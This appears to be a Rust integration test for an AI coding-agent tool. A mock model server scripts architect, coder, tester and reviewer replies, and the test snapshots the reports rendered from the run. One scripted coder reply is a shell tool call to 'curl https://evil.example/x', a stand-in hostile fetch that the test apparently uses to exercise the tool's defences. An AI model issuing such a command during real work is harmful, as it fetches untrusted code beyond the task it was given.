    serde_json::from_str(&ok(&mut repo.codeforge(&["runs", "show", run, "--format", "json"]))).unwrap()
}

// ---- a real run, rendered to everything

/// The same in every test run: the run's name and all times.
fn steady(mut account: Account) -> Account {
    account.run = "7f3k9m2q".into();
    account.repo = "/repo".into();
    (account.started_ms, account.ended_ms) = (0, account.ended_ms.map(|_| 80_000));
    let gate = |gate: &mut GateResult| gate.duration_ms = 1100;
    for step in &mut account.steps {
        step.duration_ms = 12_000;
        step.gates.iter_mut().for_each(|(_, result, _)| gate(result));
    }
    account.final_gates.iter_mut().for_each(gate);
    account.base = Some("4c1d2e9aabbccddeeff00112233445566778899a".into());
    account.notes.clear();
    account
}

#[tokio::test(flavor = "multi_thread")]
async fn a_run_is_told_in_every_form() {
    let parser = "pub fn last(line: &str) -> &str {\n    line.split(',').last().unwrap()\n}\n";
    let repo = TestRepo::with(&[("src/parse.rs", parser), ("src/cli.rs", "fn main() {}\n")]);
    repo.write(
        ".codeforge/config.yml",
        "sandbox: { driver: native }\ngates:\n  tests: { run: \"if grep -q trim src/parse.rs; then echo 213 passed; else \
         echo 'test trailing_comma FAILED'; echo '212 passed; 1 failed'; exit 1; fi\", on_fail: retry }\n  lint: { run: \"true\" }\n",
    );
    repo.commit("configured");
    let finish = |output: Value| Reply::call("finish", json!({ "summary": "The field is kept.", "output": output }));
    let done = || Reply::call("finish", json!({ "summary": "The field is kept." }));
    let edit =
        |new: &str| Reply::call("edit_file", json!({ "path": "src/parse.rs", "old": "line.split(',')", "new": new }));
    let plan = json!({ "title": "Keep the last field", "summary": "A trailing comma hides it. It is trimmed first.",
        "steps": [{ "what": "Trim the comma", "files": ["src/parse.rs"] }] });
    let review = json!({ "approved": true, "summary": "Good.", "findings": [
        { "severity": "medium", "file": "src/parse.rs", "line": 2, "rule": "CWE-248", "what": "`unwrap` on user input.",
          "suggestion": "Give back an `Option`." },
        { "severity": "low", "file": "src/cli.rs", "what": "Nothing calls `last` | yet, says @octocat." }] });
    let coder = || Rule::when().system("You are the coder").user("Trim the comma");
    let again = || Rule::when().system("You are the coder").user("Gate `tests` failed");
    let server = ModelServer::start(vec![
        Rule::when().system("You are the architect").reply(finish(plan)),
        coder().turn(0).reply(Reply::call("shell", json!({ "command": "curl https://evil.example/x" }))),
        coder().turn(1).reply(edit("line.splitn(9, ',')")),
        coder().turn(2).reply(done()),
        again().turn(0).reply(edit("line.trim_end_matches(',').split(',')")),
        again().turn(1).reply(done()),
        Rule::when().system("You are the tester").reply(done()),
        Rule::when().system("You are the reviewer").reply(finish(review)),
    ])
    .await;
    let mut command =
        repo.codeforge(&["run", "fix", "-i", "task=parse() drops the last field\nwhen the line ends in a comma"]);
    command.env("CODEFORGE_LLM_BASE_URL", server.url()).env("CODEFORGE_MODEL", "scripted");
    command.env("CODEFORGE_LLM_PRICE_INPUT", "3").env("CODEFORGE_LLM_PRICE_OUTPUT", "15");
    let output = tokio::task::spawn_blocking(move || command.output().unwrap()).await.unwrap();
    assert!(output.status.success(), "{}\n{:#?}", spoken(&output), server.unmatched());
    server.finished();

    let account = steady(account_of(&repo));
    let text = |path: &str| std::fs::read_to_string(repo.path().join(path)).ok();
    let found = ci::findings(ci::outputs(&account), &Tree { text: &text, renamed: &BTreeMap::new() });
    assert_eq!(found.len(), 2, "{found:#?}");
    let mut earlier = found.clone();
    earlier.remove(0);
    earlier.push(Finding {
        fingerprint: "00000000000000aa".into(),
        file: "src/io.rs".into(),
        line: Some(12),
        what: "Handle closed on error.".into(),
        ..finding("x", 1, Level::High)
    });
    let found = ci::standing(found, &earlier, &|_| true);
    let files = &account.delivered.as_ref().unwrap().changes.files;
    let coverage = scope(
        &ChangeSet {
            files: [files.clone(), vec![file("Cargo.lock", 40)]].concat(),
            diff: account.delivered.as_ref().unwrap().changes.diff.clone(),
        },
        ROOM,
    )
    .coverage;
    let facts = Facts {
        asked: Some("parse() drops the last field\nwhen the line ends in a comma".into()),
        asked_by: Some("octocat".into()),
        done: ci::planned(&account),
        coverage,
        head: Some("9e01aa4b00112233445566778899aabbccddeeff".into()),
        since: Some("4c1d2e9aabbccddeeff00112233445566778899a".into()),
        run_url: Some("https://ci.example/jobs/7".into()),
        change_spent: Some(NanoUsd::from_usd(0.31)),
        change_budget_usd: Some(2.0),
        phrase: "/codeforge".into(),
        commands: vec!["fix".into(), "review".into()],
        whole: None,
    };
    let folder = std::path::Path::new(env!("CARGO_TARGET_TMPDIR")).join("reports");
    std::fs::create_dir_all(&folder).unwrap();
    for (name, page) in pages(&account, &found, &facts, ci::BODY_CAP) {
        see(&page);
        std::fs::write(folder.join(format!("{name}.md")), &page).unwrap();
        insta::with_settings!({ omit_expression => true, prepend_module_to_snapshot => false }, {
            insta::assert_snapshot!(name, page);
        });
    }
    insta::with_settings!({ omit_expression => true, prepend_module_to_snapshot => false }, {
        insta::assert_snapshot!("results.sarif", ci::sarif(&account, &found, &facts, ci::REPORT_CAP).replace(env!("CARGO_PKG_VERSION"), "VERSION"));
        insta::assert_snapshot!("code_quality", ci::code_quality(&found, ci::REPORT_CAP));
        insta::assert_snapshot!("junit", ci::junit(&account, ci::REPORT_CAP));
        let marks: Vec<String> = ci::annotations(&found).iter().map(ci::Annotation::github).collect();
        insta::assert_snapshot!("annotations", marks.join("\n"));
        let mut log = Log::new(Reader::Github, 0, "t0ken");
        let _ = log.lines(&Progress::Note("x".into()), 0);
        insta::assert_snapshot!("end_of_the_log", log.end(&account, None, 0).join("\n"));
    });
}
